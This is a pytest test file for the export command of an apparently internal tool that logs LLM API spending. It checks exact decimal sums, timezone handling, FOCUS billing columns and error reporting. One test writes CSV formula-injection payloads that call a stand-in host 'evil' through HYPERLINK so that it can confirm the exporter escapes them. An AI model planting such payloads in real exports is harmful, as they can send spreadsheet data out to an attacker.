"""`spendlog export` and spendlog.report.files: exact sums, timezones, injection, errors, FOCUS."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from decimal import Decimal

import pytest
from click.testing import CliRunner

from spendlog.cli import cli
from spendlog.db.estimate import price_book, price_record
from spendlog.db.engine import make_engine
from spendlog.db.migrate import upgrade
from spendlog.db.queries import Filters
from spendlog.report.files import CALL_COLUMNS, GROUP_MEASURES, export_calls
from spendlog.report.focus import FOCUS_COLUMNS
from spendlog.report.money import money_exact
from spendlog.report.table import neutralise, write_table
from test_queries import BASE, by_hand, make_record, random_records, seed

UTC = timezone.utc
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout_bytes.decode(), result.stderr  # stdout without newline translation


def export_rows(url: str, *args: str) -> list[dict]:
    code, out, err = run("export", "--db", url, *args)
    assert code == 0, err
    return list(csv.DictReader(io.StringIO(out, newline="")))


@pytest.fixture
def ledger(db_url):
    records = random_records(800, seed=11)
    records[0]["cost_usd"] = Decimal("-0.5")  # a refund-like negative amount still prints exactly
    seed(db_url, records).dispose()
    book = price_book()  # the store prices calls without an upstream cost: hand sums use what it stored
    return db_url, [price_record(book, r) for r in records]


def test_grouped_and_per_call_exports_agree_to_the_last_digit(ledger):
    url, records = ledger
    exact = by_hand(records, Filters())
    calls = export_rows(url, "--by", "call")
    assert [list(calls[0])] == [list(CALL_COLUMNS)]
    assert len(calls) == exact["requests"]
    call_sum = sum((Decimal(r["cost_usd"]) for r in calls if r["cost_usd"]), Decimal(0))
    assert call_sum == exact["cost_usd"]
    for by in ("day,model", "week,app,user", "month,key,provider", "model"):
        rows = export_rows(url, "--by", by, "--tz", "Asia/Kolkata")
        assert list(rows[0]) == [*by.split(","), *GROUP_MEASURES]
        assert sum(int(r["requests"]) for r in rows) == exact["requests"]
        assert sum((Decimal(r["cost_usd"]) for r in rows), Decimal(0)) == exact["cost_usd"]
        assert sum(int(r["calls_missing_cost"]) for r in rows) == exact["calls_missing_cost"]
        assert sum(int(r["prompt_tokens"]) for r in rows) == exact["prompt_tokens"]
    code, out, _ = run("export", "--db", url, "--by", "day,model", "--format", "jsonl")
    lines = [json.loads(line) for line in out.splitlines()]
    assert sum((Decimal(x["cost_usd"]) for x in lines), Decimal(0)) == exact["cost_usd"]
    assert all(isinstance(x["cost_usd"], str) and isinstance(x["requests"], int) for x in lines)
    code, out, _ = run("export", "--db", url, "--by", "call", "--format", "jsonl")
    lines = [json.loads(line) for line in out.splitlines()]
    assert [x["id"] for x in lines] == [r["id"] for r in calls]
    assert sum((Decimal(x["cost_usd"]) for x in lines if x["cost_usd"] is not None), Decimal(0)) == exact["cost_usd"]


def _sum(rows, column) -> Decimal:
    return sum((Decimal(r[column]) for r in rows if r[column]), Decimal(0))


def test_price_columns_agree_between_per_call_grouped_and_focus(ledger):
    """The price split (issue 14): the grouped file's billed / estimated / list sums and unpriced
    count, read from the rollup (split hours in Asia/Kolkata), equal the per-call file's sums to the
    last digit, and FOCUS puts bills in BilledCost, bills + estimates in EffectiveCost, list prices in
    ListCost."""
    url, _ = ledger
    calls = export_rows(url, "--by", "call")
    sources = {r["cost_source"] for r in calls}
    assert sources == {"upstream", "estimated", "missing"}
    billed = _sum([r for r in calls if r["cost_source"] == "upstream"], "cost_usd")
    estimated = _sum([r for r in calls if r["cost_source"] == "estimated"], "cost_usd")
    listed = _sum(calls, "list_cost_usd")
    unpriced = sum(1 for r in calls if r["cost_source"] == "missing")
    assert billed > 0 and estimated > 0 and listed > 0 and unpriced > 0
    assert all(r["price_source"].startswith("genai-prices ") for r in calls if r["cost_source"] == "estimated")
    assert all(r["price_source"] == "" and r["cost_usd"] == "" for r in calls if r["cost_source"] == "missing")
    for by in ("day,model", "month,app", "provider"):
        rows = export_rows(url, "--by", by, "--tz", "Asia/Kolkata")
        assert (_sum(rows, "billed_cost_usd"), _sum(rows, "estimated_cost_usd"), _sum(rows, "list_cost_usd")) == (
            billed, estimated, listed)
        assert sum(int(r["calls_unpriced"]) for r in rows) == unpriced
        assert all(r["calls_unpriced"] == r["calls_missing_cost"] for r in rows)
        assert all(Decimal(r["billed_cost_usd"]) + Decimal(r["estimated_cost_usd"]) == Decimal(r["cost_usd"])
                   for r in rows)
    for by in ("day,model", "call"):
        focus = export_rows(url, "--format", "focus", "--by", by, "--tz", "Asia/Kolkata")
        assert _sum(focus, "BilledCost") == billed
        assert _sum(focus, "EffectiveCost") == billed + estimated
        assert _sum(focus, "ListCost") == listed
        assert _sum(focus, "x_EstimatedCost") == estimated
    per_call = {r["x_CallId"]: r for r in focus}
    for r in calls:
        f = per_call[r["id"]]
        assert (f["x_CostSource"], f["x_PriceSource"]) == (r["cost_source"], r["price_source"])
        if r["cost_source"] == "estimated":
            assert (f["BilledCost"], f["EffectiveCost"], f["x_EstimatedCost"]) == ("0", r["cost_usd"], r["cost_usd"])


def test_per_call_cells(sqlite_url):
    record = make_record(datetime(2024, 5, 1, 23, 30, tzinfo=UTC), cost_usd=Decimal("0.000000000001"),
                         tags={"team": "ml"}, stream=True, api_key_hint="sr_...abcd", ttft_ms=None)
    seed(sqlite_url, [record]).dispose()
    (row,) = export_rows(sqlite_url, "--by", "call")
    assert row["created_at"] == "2024-05-01T23:30:00.000000Z"
    assert row["cost_usd"] == "0.000000000001"  # exact, no exponent
    assert row["stream"] == "true" and row["ttft_ms"] == "" and row["api_key_hint"] == "sr_...abcd"
    assert json.loads(row["tags"]) == {"team": "ml"}


def test_timezone_decides_the_day(db_url):
    late = make_record(datetime(2024, 5, 1, 23, 30, tzinfo=UTC), cost_usd=Decimal("2"))
    kolkata_late = make_record(datetime(2024, 5, 1, 18, 45, tzinfo=UTC), cost_usd=Decimal("0.5"))
    seed(db_url, [late, kolkata_late]).dispose()

    def days(*args):
        return {r["day"]: r["cost_usd"] for r in export_rows(db_url, "--by", "day", *args)}

    assert days() == {"2024-05-01": "2.5"}
    assert days("--tz", "Asia/Tokyo") == {"2024-05-02": "2.5"}
    assert days("--tz", "Asia/Kolkata") == {"2024-05-02": "2.5"}
    assert days("--tz", "America/New_York") == {"2024-05-01": "2.5"}
    # --from/--to are local dates: May 2 in Tokyo holds the 23:30 UTC call, May 1 does not
    assert days("--tz", "Asia/Tokyo", "--from", "2024-05-02", "--to", "2024-05-02") == {"2024-05-02": "2.5"}
    assert days("--tz", "Asia/Tokyo", "--from", "2024-05-01", "--to", "2024-05-01") == {}
    assert days("--tz", "Asia/Kolkata", "--from", "2024-05-01", "--to", "2024-05-01") == {}
    assert days("--from", "2024-05-01", "--to", "2024-05-01") == {"2024-05-01": "2.5"}


@pytest.mark.parametrize("fmt", ["csv", "focus"])
def test_every_injection_prefix_is_neutralised(sqlite_url, fmt):
    hostile = []
    for i, t in enumerate(TRIGGERS + ["\uff1d", "\uff0b"]):
        payload = f"{t}HYPERLINK(\"http://evil/?x=\"&A1,\"click\")"
        hostile.append(make_record(BASE + timedelta(minutes=i), model=payload, requested_model=payload,
                                   provider=payload, app=payload, user=payload, request_id=payload,
                                   api_key_hint=f"{t}k", finish_reason=payload, error_type=payload,
                                   tags={payload: payload}, cost_usd=Decimal("0.5")))
    hostile.append(make_record(BASE, model="safe-model", app="a=b", user="x-y"))  # triggers later in the cell are fine
    seed(sqlite_url, hostile).dispose()
    texts = []
    for by in ("call", "day,model,provider,app,user,key"):
        code, out, err = run("export", "--db", sqlite_url, "--by", by, "--format", fmt)
        assert code == 0, err
        table = list(csv.reader(io.StringIO(out, newline="")))
        assert len(table) > 1
        texts += [cell for row in table for cell in row]
        assert any(cell.startswith("'=HYPERLINK") for row in table for cell in row)
    for cell in texts:
        assert not cell or cell[0] not in "=+-@\t\r\uff1d\uff0b", repr(cell)
    assert "a=b" in texts and "x-y" in texts


def test_neutralise_and_the_header_row():
    for t in TRIGGERS:
        assert neutralise(t + "1+1") == "'" + t + "1+1"
    assert neutralise("") == "" and neutralise("ok=1") == "ok=1" and neutralise("'=x") == "'=x"
    buf = io.StringIO(newline="")
    write_table([[("=x", 1, Decimal("1.50"), None, True)]], ["=cmd", "-n", "+p", "@a", "\tt"], "csv", buf)
    header, row = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert header == ["'=cmd", "'-n", "'+p", "'@a", "'\tt"]
    assert row == ["'=x", "1", "1.5", "", "true"]


def test_money_is_exact_plain_decimal():
    assert money_exact(Decimal("0.000000000001")) == "0.000000000001"
    assert money_exact(Decimal("1E-12")) == "0.000000000001"
    assert money_exact(Decimal("0E-12")) == "0"
    assert money_exact(Decimal("12345678901234567.123456789012")) == "12345678901234567.123456789012"
    assert money_exact(Decimal("100.000000000000")) == "100"
    assert money_exact(Decimal("1E+3")) == "1000"
    assert money_exact(Decimal("0.1480")) == "0.148"


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "focus"])
def test_empty_range_gives_a_header_only_file(ledger, fmt, tmp_path):
    url, _ = ledger
    for by in ("call", "day,model"):
        target = tmp_path / f"out-{fmt}-{by}.txt"
        code, _, err = run("export", "--db", url, "--from", "2031-01-01", "--to", "2031-01-31", "--by", by,
                           "--format", fmt, "-o", str(target))
        assert code == 0, err
        assert "wrote 0 rows" in err
        text = target.read_bytes().decode()
        if fmt == "jsonl":
            assert text == ""
        else:
            expected = FOCUS_COLUMNS if fmt == "focus" else (CALL_COLUMNS if by == "call" else
                                                              ("day", "model", *GROUP_MEASURES))
            assert text == ",".join(expected) + "\r\n"


def test_empty_database_too(sqlite_url):
    engine = make_engine(sqlite_url)
    upgrade(engine)
    engine.dispose()
    code, out, err = run("export", "--db", sqlite_url)
    assert code == 0, err
    assert out == ",".join(("day", "model", *GROUP_MEASURES)) + "\r\n"


def test_output_file_is_complete_or_absent(ledger, tmp_path):
    url, records = ledger
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "calls.csv"
    code, out, err = run("export", "--db", url, "--by", "call", "-o", str(target))
    assert code == 0 and out == ""
    assert err.strip() == f"wrote {len(records):,} rows to {target}"
    assert len(list(csv.DictReader(target.open(newline="")))) == len(records)
    assert [p.name for p in folder.iterdir()] == ["calls.csv"]  # no partial file left behind
    umask = os.umask(0o022)
    os.umask(umask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask  # an ordinary file, readable like any other
    target.write_text("previous export")
    code, _, err = run("export", "--db", url, "--by", "nonsense", "-o", str(target))
    assert code == 2 and target.read_text() == "previous export"  # a failed run leaves the old file alone
    assert [p.name for p in folder.iterdir()] == ["calls.csv"]


def test_progress_is_reported_per_chunk(ledger):
    url, records = ledger
    engine = make_engine(url)  # not readonly=True: on PostgreSQL it drops the URL's search_path
    seen = []
    with engine.connect() as conn:
        n = export_calls(conn, Filters(), "csv", io.StringIO(newline=""), progress=seen.append, chunk_size=100)
    engine.dispose()
    assert n == len(records) == sum(seen) and max(seen) == 100


def test_focus_columns_and_values(db_url):
    records = [
        make_record(datetime(2024, 5, 1, 23, 30, tzinfo=UTC), cost_usd=Decimal("0.25"), total_tokens=100,
                    app="billing", user="alice"),
        # a model no price list knows: its cost stays missing (a known one would be estimated)
        make_record(datetime(2024, 5, 1, 1, 0, tzinfo=UTC), cost_usd=None, cost_source="missing", total_tokens=7,
                    model="selfhosted/house-model-7b"),
    ]
    seed(db_url, records).dispose()
    rows = export_rows(db_url, "--format", "focus", "--tz", "Asia/Tokyo", "--by", "day,model,app")
    required = {"BilledCost", "EffectiveCost", "ListCost", "ContractedCost", "BillingCurrency", "BillingAccountId",
                "BillingPeriodStart", "BillingPeriodEnd", "ChargeCategory", "ChargePeriodStart", "ChargePeriodEnd",
                "ServiceName", "ServiceCategory", "ProviderName", "PublisherName", "InvoiceIssuerName",
                "ResourceName", "ConsumedQuantity", "ConsumedUnit", "Tags"}
    assert required <= set(rows[0])
    assert all(c in required or c.startswith("x_") or c in FOCUS_COLUMNS for c in rows[0])
    by_start = {r["ChargePeriodStart"]: r for r in rows}
    may2 = by_start["2024-05-01T15:00:00Z"]  # local May 2 in Tokyo starts at 15:00 UTC
    assert may2["ChargePeriodEnd"] == "2024-05-02T15:00:00Z"
    assert may2["BilledCost"] == may2["EffectiveCost"] == "0.25"
    assert may2["BillingCurrency"] == "USD" and may2["ChargeCategory"] == "Usage"
    assert may2["ServiceCategory"] == "AI and Machine Learning" and may2["ResourceName"] == "openai/gpt-4o-mini"
    assert may2["ConsumedQuantity"] == "100" and may2["ConsumedUnit"] == "Tokens"
    assert json.loads(may2["Tags"]) == {"app": "billing"}
    may1 = by_start["2024-04-30T15:00:00Z"]
    assert may1["BilledCost"] == "0" and may1["x_CallsMissingCost"] == "1"
    calls = export_rows(db_url, "--format", "focus", "--by", "call")
    assert sum(Decimal(r["BilledCost"]) for r in calls) == Decimal("0.25")
    assert {r["x_CreatedAt"] for r in calls} == {"2024-05-01T23:30:00.000000Z", "2024-05-01T01:00:00.000000Z"}
    late = next(r for r in calls if r["x_CreatedAt"].startswith("2024-05-01T23"))
    assert (late["ChargePeriodStart"], late["ChargePeriodEnd"]) == ("2024-05-01T23:00:00Z", "2024-05-02T00:00:00Z")
    assert json.loads(late["Tags"]) == {"app": "billing", "user": "alice"}


BAD_ARGS = [
    (["--from", "2024-13-01"], "--from"),
    (["--from", "01/02/2024"], "YYYY-MM-DD"),
    (["--to", "2024-02-30"], "--to"),
    (["--from", "2024-05-02", "--to", "2024-05-01"], "before"),
    (["--by", "day,colour"], "colour"),
    (["--by", "call,model"], "call"),
    (["--by", "day,day"], "twice"),
    (["--by", " , "], "--by"),
    (["--tz", "Mars/Olympus_Mons"], "timezone"),
    (["--format", "xml"], "xml"),
    (["--format", "focus", "--by", "model"], "focus"),
    (["-o", "{missing}/x.csv"], "/x.csv"),
    (["--db", "nonsense://x"], "nonsense"),
    (["--db", "sqlite:///{missing}/ledger.db"], "no spendlog database"),
]


@pytest.mark.parametrize("args,needle", BAD_ARGS)
def test_bad_arguments_give_one_line_and_exit_2(ledger, args, needle, tmp_path):
    url, _ = ledger
    args = [a.replace("{missing}", str(tmp_path / "no-such-dir")) for a in args]
    if "--db" not in args:
        args = ["--db", url, *args]
    code, out, err = run("export", *args)
    assert code == 2, (out, err)
    assert out == ""
    lines = err.strip("\n").split("\n")
    assert len(lines) == 1 and lines[0].startswith("spendlog: error: "), err
    assert needle in lines[0]


def test_unreachable_and_unmigrated_databases(tmp_path):
    code, _, err = run("export", "--db", "postgresql+psycopg://spend:s3cret@127.0.0.1:1/ledger")
    assert code == 2 and "s3cret" not in err and "***" in err and err.count("\n") == 1
    blank = tmp_path / "blank.db"
    blank.write_bytes(b"")
    code, _, err = run("export", "--db", f"sqlite:///{blank}")
    assert code == 2 and "no spendlog tables" in err and err.count("\n") == 1


def test_real_process_exit_code_and_stdout(ledger):
    url, records = ledger
    ok = subprocess.run([sys.executable, "-m", "spendlog", "export", "--db", url, "--by", "model"],
                        capture_output=True, timeout=120)
    assert ok.returncode == 0 and ok.stdout.startswith(b"model,requests,")
    assert b"\r\n" in ok.stdout
    bad = subprocess.run([sys.executable, "-m", "spendlog", "export", "--db", url, "--from", "yesterday"],
                         capture_output=True, text=True, timeout=120)
    assert bad.returncode == 2 and bad.stdout == ""
    assert bad.stderr.count("\n") == 1 and bad.stderr.startswith("spendlog: error: --from")


def test_bulk_path_writes_what_the_typed_formatter_writes(ledger):
    """The per-call CSV takes values the database rendered as text (plain=True); they must be
    exactly what spendlog.report.table's own formatting makes of the typed values."""
    from spendlog.db.queries import iter_call_chunks

    url, records = ledger
    engine = make_engine(url)  # not readonly=True: on PostgreSQL it drops the URL's search_path
    with engine.connect() as conn:
        bulk = io.StringIO(newline="")
        export_calls(conn, Filters(), "csv", bulk, chunk_size=64)
        typed = io.StringIO(newline="")
        write_table(iter_call_chunks(conn, Filters(), CALL_COLUMNS, chunk_size=64), CALL_COLUMNS, "csv", typed)
    engine.dispose()
    bulk_rows = list(csv.DictReader(io.StringIO(bulk.getvalue(), newline="")))
    typed_rows = list(csv.DictReader(io.StringIO(typed.getvalue(), newline="")))
    assert len(bulk_rows) == len(typed_rows) == len(records)
    for b, t in zip(bulk_rows, typed_rows):
        assert json.loads(b.pop("tags") or "null") == json.loads(t.pop("tags") or "null")
        assert b == t
